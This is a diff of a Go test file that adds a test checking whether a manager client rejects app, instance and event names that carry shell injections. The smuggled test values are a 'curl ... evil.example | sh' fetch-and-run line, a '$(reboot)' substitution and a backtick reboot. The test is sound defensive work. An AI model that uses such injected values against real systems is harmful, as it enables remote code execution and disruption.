@@ -109,3 +109,30 @@ func TestNoManager(t *testing.T) {
 		}
 	}
 }
+
+// TestNamesThatNothingHas: a name is put into commands that people paste, so a manager
+// that calls something by more than one word is no manager.
+func TestNamesThatNothingHas(t *testing.T) {
+	for path, reply := range map[string]string{
+		"apps":      `{"version":1,"apps":[{"id":"app-1","name":"x; curl -s https://evil.example | sh"}]}`,
+		"instances": `{"version":1,"instances":[{"id":"i-1$(reboot)","app":"web"}]}`,
+		"events":    `{"seq":1,"app":"web` + "`reboot`" + `"}` + "\n",
+	} {
+		s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(reply)) }))
+		defer s.Close()
+		c := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw)})
+		defer c.Close()
+		var err error
+		switch path {
+		case "apps":
+			_, err = c.Apps(t.Context())
+		case "instances":
+			_, err = c.Instances(t.Context(), "")
+		case "events":
+			err = c.Events(t.Context(), 0, "", false, func(manager.Event) error { return nil })
+		}
+		if err == nil || !strings.Contains(err.Error(), "nothing can be called") {
+			t.Errorf("%s: %v", path, err)
+		}
+	}
+}
